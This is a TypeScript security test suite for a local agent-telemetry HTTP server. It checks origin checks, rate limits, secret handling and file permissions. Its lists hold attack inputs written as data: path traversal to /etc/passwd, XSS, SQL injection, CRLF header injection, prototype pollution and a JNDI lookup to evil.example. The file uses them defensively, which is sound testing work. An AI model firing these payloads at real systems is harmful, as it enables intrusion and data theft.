/** What a hostile page, client, user of the machine or agent may try against the server, and what comes of it. */
import { chmod, mkdtemp, rm, stat, writeFile } from "node:fs/promises";
import { connect } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import { describe, expect, it, onTestFinished } from "vitest";
import type { LocalApie } from "../../src/local/index.ts";
import { until } from "../support/until.ts";
import { call, get, type Json, post, rawRequest, startApie } from "./support.ts";

/** Bytes on a connection, and what comes back until it ends. */
function talk(apie: LocalApie, text: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const socket = connect(apie.port, "127.0.0.1", () => socket.write(text));
    let answer = "";
    socket.setEncoding("utf8").on("data", (part: string) => {
      answer += part;
    });
    socket.on("close", () => resolve(answer));
    socket.on("error", (error: NodeJS.ErrnoException) =>
      error.code === "ECONNRESET" || error.code === "EPIPE" ? resolve(answer) : reject(error),
    );
  });
}

const statusOf = (answer: string): number => Number(/^HTTP\/1\.1 (\d+)/.exec(answer)?.[1]);

describe("a page of another site in a browser", () => {
  const EVERY_KIND = [
    ["GET", "/"],
    ["GET", "/health"],
    ["GET", "/api"],
    ["GET", "/api/sessions"],
    ["GET", "/api/stream"],
    ["POST", "/v1/runs"],
    ["POST", "/v1/traces"],
    ["POST", "/api/policies"],
    ["POST", "/api/approvals/appr_1/resolve"],
    ["GET", "/assets/main.js"],
    ["GET", "/nothing"],
  ] as const;
  it.each(EVERY_KIND)("%s %s is refused to it, by each sign of where it comes from", async (method, path) => {
    const apie = await startApie();
    for (const [headers, code] of [
      [{ host: "evil.example" }, "forbidden_host"],
      [{ origin: "https://evil.example" }, "forbidden_origin"],
      [{ origin: "null" }, "forbidden_origin"],
      [{ "sec-fetch-site": "cross-site", "sec-fetch-mode": "no-cors" }, "forbidden_origin"],
      [{ "sec-fetch-site": "same-site", "sec-fetch-mode": "cors" }, "forbidden_origin"],
      [
        { "sec-fetch-site": "cross-site", "sec-fetch-mode": "navigate", "sec-fetch-dest": "iframe" },
        "forbidden_origin",
      ],
    ] as const) {
      const answer = await rawRequest(apie, { method, path, headers });
      expect([answer.status, JSON.parse(answer.body.toString()).error.code]).toEqual([403, code]);
      expect(Object.keys(answer.headers).filter((name) => name.startsWith("access-control"))).toEqual([]);
    }
  });

  it("may lead a person here, and no form of it may be sent here", async () => {
    const apie = await startApie();
    const headers = {
      "sec-fetch-site": "cross-site",
      "sec-fetch-mode": "navigate",
      "sec-fetch-dest": "document",
    };
    expect((await rawRequest(apie, { path: "/api", headers })).status).toBe(200);
    expect((await rawRequest(apie, { method: "POST", path: "/v1/runs", headers })).status).toBe(403);
  });

  it.each(["same-origin", "none"])(
    "the server's own page (%s) and the address bar are let in",
    async (site) => {
      const apie = await startApie();
      expect((await rawRequest(apie, { path: "/api", headers: { "sec-fetch-site": site } })).status).toBe(
        200,
      );
    },
  );

  it("cannot send JSON as what needs no preflight", async () => {
    const apie = await startApie();
    for (const type of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
      const headers = { "content-type": type };
      for (const path of ["/v1/runs", "/v1/events", "/v1/traces", "/api/policies"])
        expect((await rawRequest(apie, { method: "POST", path, headers, body: "{}" })).status).toBe(415);
    }
  });

  it("frames nothing, reads nothing as another type, and learns no address", async () => {
    const apie = await startApie({ key: "k" });
    for (const path of ["/", "/api", "/v1/nothing", "/nothing"]) {
      const { headers } = await rawRequest(apie, { path });
      expect(headers).toMatchObject({
        "x-content-type-options": "nosniff",
        "x-frame-options": "DENY",
        "referrer-policy": "no-referrer",
        "cross-origin-resource-policy": "same-origin",
      });
      expect(headers["content-security-policy"]).toContain("frame-ancestors 'none'");
      expect(headers["content-security-policy"]).toContain("default-src 'none'");
    }
  });

  it("names another host in an absolute address in vain", async () => {
    const apie = await startApie();
    const answer = await talk(
      apie,
      `GET http://evil.example/api HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n`,
    );
    expect(statusOf(answer)).toBe(403);
  });
});

describe("paths", () => {
  const OUTSIDE = [
    "/../../../../etc/passwd",
    "/..%2f..%2f..%2fetc%2fpasswd",
    "/%2e%2e/%2e%2e/etc/passwd",
    "/..%252f..%252fetc%252fpasswd",
    "/..\\..\\etc\\passwd",
    "/..%5c..%5cetc%5cpasswd",
    "/assets/../../package.json",
    "/assets/..%2f..%2fpackage.json",
    "/assets/%2e%2e%2f%2e%2e%2fpackage.json",
    "/assets/..%5c..%5cpackage.json",
    "/assets/%00",
    "/assets/index.html%00.js",
    "/assets/%c0%ae%c0%ae%2fpackage.json",
    "/assets/%",
    "/assets//etc/passwd",
    "//etc/passwd",
    "/%2fetc%2fpasswd",
    "/file:///etc/passwd",
  ];
  it.each(OUTSIDE)("%s leads to no file", async (path) => {
    const apie = await startApie();
    const answer = await talk(
      apie,
      `GET ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\nAccept: */*\r\nConnection: close\r\n\r\n`,
    );
    expect([400, 404]).toContain(statusOf(answer));
    expect(answer).not.toContain("root:");
    expect(answer).not.toContain('"devDependencies"');
  });

  it("as ids lead to nothing, and come back as JSON only", async () => {
    const apie = await startApie();
    for (const id of ["..%2f..%2fhealth", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "%00", "' OR 1=1 --"]) {
      for (const list of ["sessions", "runs", "events", "agents"]) {
        const answer = await call(apie, "GET", `/api/${list}/${encodeURI(id)}`);
        expect(answer.status).toBe(404);
        expect(answer.headers.get("content-type")).toMatch(/^application\/json/);
      }
    }
  });
});

describe("the key", () => {
  it("is not guessed: after some wrong ones the address waits, also with the right one", async () => {
    const apie = await startApie({ key: "right", maxWrongKeysPerMinute: 3 });
    const ask = (key: string) => call(apie, "GET", "/api", undefined, { authorization: `Bearer ${key}` });
    expect((await ask("right")).status).toBe(200);
    for (let guess = 0; guess < 3; guess++) expect((await ask(`wrong-${guess}`)).status).toBe(401);
    for (const key of ["wrong", "right"]) {
      const answer = await ask(key);
      expect([answer.status, answer.body.error.code]).toEqual([429, "too_many_wrong_keys"]);
      expect(Number(answer.headers.get("retry-after"))).toBeGreaterThan(0);
      expect(Number(answer.headers.get("retry-after"))).toBeLessThanOrEqual(20);
    }
    // Who sends none does not guess, and is told what is missing.
    for (let round = 0; round < 5; round++) expect((await call(apie, "GET", "/api")).status).toBe(401);
  });

  it("is in no answer and no log", async () => {
    const logged: unknown[] = [];
    const apie = await startApie({
      key: "canary-right",
      onError: (...told) => logged.push(told),
      onWarning: (message) => logged.push(message),
    });
    for (const authorization of ["Bearer canary-wrong", "Bearer canary-right", "Basic canary-right"]) {
      for (const path of ["/api", "/api/canary", "/v1/runs", "/"]) {
        const answer = await call(apie, "GET", path, undefined, { authorization });
        expect(answer.text.replaceAll("/api/canary", "")).not.toContain("canary");
        expect(JSON.stringify([...answer.headers])).not.toContain("canary");
      }
    }
    expect(logged).toEqual([]);
  });

  it.each([
    "key",
    "api_key",
    "apiKey",
    "access_token",
    "token",
    "X-Api-Key",
    "client_secret",
    "authorization",
  ])("is refused as the query parameter %s, and not repeated", async (name) => {
    for (const key of [undefined, "sesame"]) {
      const apie = await startApie(key === undefined ? {} : { key });
      const answer = await call(apie, "GET", `/api/sessions?${name}=sesame`);
      expect([answer.status, answer.body.error.code]).toEqual([400, "secret_in_query"]);
      expect(answer.text).not.toContain("sesame");
    }
  });
});

describe("too much", () => {
  it("of writes is answered 429 with the time to wait; reads go on", async () => {
    const apie = await startApie({ maxWritesPerSecond: 1 });
    const statuses: number[] = [];
    for (let round = 0; round < 8; round++)
      statuses.push((await post(apie, "/v1/runs", { agent_key: "a" })).status);
    expect(statuses.slice(0, 4)).toEqual([201, 201, 201, 201]);
    expect(statuses).toContain(429);
    const refused = await post(apie, "/v1/runs", { agent_key: "a" });
    if (refused.status === 429) expect(refused.headers.get("retry-after")).toBe("1");
    expect((await get(apie, "/api/runs")).items.length).toBeGreaterThanOrEqual(4);
  });

  it("is far beyond what a busy service sends", async () => {
    const apie = await startApie();
    const answers = await Promise.all(
      Array.from({ length: 500 }, () => post(apie, "/v1/events", { events: [] })),
    );
    expect(new Set(answers.map(({ status }) => status))).toEqual(new Set([200]));
  });

  it.each([
    ["JSON", "application/json", "/v1/runs", JSON.stringify({ agent_key: "a".repeat(4_000) }), {}],
    ["OTLP", "application/json", "/v1/traces", JSON.stringify({ x: "a".repeat(4_000) }), {}],
    ["protobuf", "application/x-protobuf", "/v1/traces", Buffer.alloc(4_000), {}],
    [
      "what a small body inflates to",
      "application/json",
      "/v1/events",
      gzipSync(JSON.stringify({ events: [], x: "a".repeat(1_000_000) })),
      { "content-encoding": "gzip" },
    ],
  ])("of %s is answered 413", async (_what, type, path, body, more) => {
    const apie = await startApie({ maxBodyBytes: 2_048, maxOtlpBodyBytes: 2_048 });
    const headers = { "content-type": type, ...more };
    expect((await rawRequest(apie, { method: "POST", path, headers, body })).status).toBe(413);
    expect((await get(apie, "/api/runs")).items).toEqual([]);
  });

  it("of headers, or an address without end, is cut off", async () => {
    const apie = await startApie();
    for (const text of [
      `GET /api?text=${"a".repeat(100_000)} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n`,
      `GET /api HTTP/1.1\r\nHost: 127.0.0.1\r\nX-A: ${"a".repeat(100_000)}\r\n\r\n`,
    ])
      expect(statusOf(await talk(apie, text))).toBe(431);
    expect((await get(apie, "/api")).routes).toBeDefined();
  });

  it("of time for headers or a body is answered 408", async () => {
    const apie = await startApie({ requestTimeoutMs: 200 });
    const [headers, body] = await Promise.all([
      talk(apie, "GET /api HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "),
      talk(
        apie,
        'POST /v1/runs HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{"a',
      ),
    ]);
    expect(statusOf(headers)).toBe(408);
    expect([400, 408]).toContain(statusOf(body));
    expect((await get(apie, "/api/runs")).items).toEqual([]);
  });

  it("of connections is closed at once, and there is room again when others go", async () => {
    const apie = await startApie({ maxConnections: 3 });
    const open = await Promise.all(
      Array.from({ length: 3 }, async () => {
        const socket = connect(apie.port, "127.0.0.1");
        await new Promise((resolve) => socket.once("connect", resolve));
        return socket;
      }),
    );
    await until("the server to know of all three", async () => (await talk(apie, "")) === "");
    for (const socket of open) socket.destroy();
    await until("a place", async () => {
      const answer = await talk(apie, "GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n");
      return statusOf(answer) === 200;
    });
  });
});

describe("the database file", { skip: process.platform === "win32" }, () => {
  async function folderOf(): Promise<string> {
    const folder = await mkdtemp(join(tmpdir(), "apie-security-"));
    onTestFinished(() => rm(folder, { recursive: true, force: true }));
    return folder;
  }

  it("and those beside it are for their owner only, whatever the umask", async () => {
    const before = process.umask(0);
    onTestFinished(() => void process.umask(before));
    const folder = await folderOf();
    const warnings: string[] = [];
    const db = join(folder, "apie.sqlite");
    const apie = await startApie({ db, onWarning: (message) => warnings.push(message) });
    await post(apie, "/v1/runs", { agent_key: "a" });
    for (const name of ["", "-wal", "-shm"])
      expect([name, (await stat(`${db}${name}`)).mode & 0o777]).toEqual([name, 0o600]);
    expect(warnings).toEqual([]);
  });

  it.each([0o644, 0o640, 0o666, 0o604])(
    "that was open to others (%o) is shut, and that is said",
    async (mode) => {
      const db = join(await folderOf(), "apie.sqlite");
      await writeFile(db, "");
      await chmod(db, mode);
      const warnings: string[] = [];
      await startApie({ db, onWarning: (message) => warnings.push(message) });
      expect((await stat(db)).mode & 0o777).toBe(0o600);
      expect(warnings).toEqual([`${db} could be read by other users; its mode is 0600 now`]);
    },
  );
});

describe("hostile text in every field", () => {
  const HOSTILE = [
    "<script>alert(1)</script>",
    "</script><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "\"'><svg/onload=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}",
    "'; DROP TABLE events; --",
    "\u001b]0;title\u0007\u001b[2J",
    "\u202egnp.exe",
    "line\r\nset-cookie: a=b",
    "__proto__",
    "nul\u0000byte",
    "%s%n$\u007bjndi:ldap://evil.example/a}",
  ];

  /** An object in which every value, and every name that is free, is this text. */
  const filled = (text: string) => ({ [text]: text, list: [text], deep: { [text]: { [text]: text } } });

  it.each(HOSTILE)(
    "%j is kept as it came, and told as JSON that no browser takes for a page",
    async (text) => {
      const apie = await startApie();
      const identified = await post(apie, "/v1/agents/identify", {
        agent: { key: text, name: text, purpose: text, owner_email: text, team: text, description: text },
      });
      expect(identified.status).toBe(201);
      const session = await post(apie, "/v1/sessions", {
        kind: "pipeline",
        orchestrator_agent_key: text,
        environment: text,
        input_summary: text,
        metadata: filled(text),
      });
      const run = await post(apie, `/v1/sessions/${session.body.id}/runs`, {
        agent_key: text,
        step_key: text,
        step_name: text,
        role: text,
        environment: text,
        input_summary: text,
        metadata: filled(text),
      });
      const event = {
        event_id: `e ${text}`,
        type: text,
        agent_key: text,
        run_id: run.body.id,
        session_id: session.body.id,
        environment: text,
        step_name: text,
        payload_summary: filled(text),
        metadata: filled(text),
        tool: { name: text, provider: text },
        action: { type: text, name: text },
        resource: { type: text, external_id: text, provider: text },
        error: { message: text, stack: text },
        approval: { approval_id: text, status: text },
        decision: filled(text),
      };
      expect((await post(apie, "/v1/events", { events: [event] })).status).toBe(200);
      const policy = { key: "p", name: text, reason: text, decision: "block", match: { tools: [text] } };
      expect((await post(apie, "/api/policies", policy)).status).toBeLessThan(300);
      const trace = "a".repeat(32);
      const attributes = [{ key: text, value: { stringValue: text } }];
      const span = {
        traceId: trace,
        spanId: "b".repeat(16),
        name: text,
        attributes,
        events: [{ name: text, attributes }],
        status: { code: 2, message: text },
      };
      const spans = { resource: { attributes }, scopeSpans: [{ scope: { name: text }, spans: [span] }] };
      expect((await post(apie, "/v1/traces", { resourceSpans: [spans] })).status).toBe(200);

      const read = async (path: string): Promise<Json> => {
        const answer = await call(apie, "GET", path);
        expect([answer.status, answer.headers.get("x-content-type-options")]).toEqual([200, "nosniff"]);
        expect(answer.headers.get("content-type")).toMatch(/^application\/json/);
        expect(answer.headers.has("set-cookie")).toBe(false);
        expect(answer.headers.get("x-request-id")).toMatch(/^req_[0-9a-f]{32}$/);
        return answer.body;
      };
      expect((await read("/api/agents")).items).toMatchObject([{ key: text, name: text, purpose: text }]);
      expect((await read(`/api/sessions/${session.body.id}`)).session).toMatchObject({ input_summary: text });
      const runs = (await read(`/api/sessions/${session.body.id}/runs`)).items;
      expect(runs).toMatchObject([{ agent_key: text, step_name: text, role: text, metadata: filled(text) }]);
      // Names are kept, and do nothing: not even the one that is more than a name to JavaScript.
      expect(Object.keys(runs[0]?.metadata ?? {})).toEqual([text, "list", "deep"]);
      expect((await read(`/api/sessions/${session.body.id}/events`)).items).toMatchObject([event]);
      expect(JSON.stringify(await read("/api/policies"))).toContain(JSON.stringify(text));
      expect((await read(`/api/traces/${trace}/spans`)).items).toMatchObject([
        { name: text, status: { message: text }, scope: { name: text } },
      ]);
      expect(Object.keys(Object.prototype)).toEqual([]);
      expect((await get(apie, "/api/events")).items).toHaveLength(1);
    },
  );
});
